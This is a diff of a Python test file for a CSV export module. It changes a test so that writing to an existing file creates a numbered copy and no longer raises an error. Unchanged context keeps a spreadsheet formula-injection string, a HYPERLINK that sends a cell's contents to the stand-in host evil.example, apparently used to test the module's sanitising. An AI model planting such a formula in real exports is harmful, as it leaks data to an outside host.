@@ -8,8 +8,6 @@ import json
 import stat
 from pathlib import Path
 
-import pytest
-
 from hubtui.core.export import formula_safe, render, typed_cell, write_export
 
 FORMULA_NAME = 'Harbour,"=HYPERLINK(""http://evil.example/?d=""&B14,""Open"")",'
@@ -57,6 +55,8 @@ def test_a_file_is_private_and_never_replaced(tmp_path: Path) -> None:
     path = tmp_path / "out.csv"
     write_export(path, "first\n")
     assert stat.S_IMODE(path.stat().st_mode) == 0o600
-    with pytest.raises(FileExistsError):
-        write_export(path, "second\n")
+    second = write_export(path, "second\n")
+    assert second == tmp_path / "out-2.csv"
     assert path.read_text() == "first\n"
+    assert second.read_text() == "second\n"
+    assert stat.S_IMODE(second.stat().st_mode) == 0o600
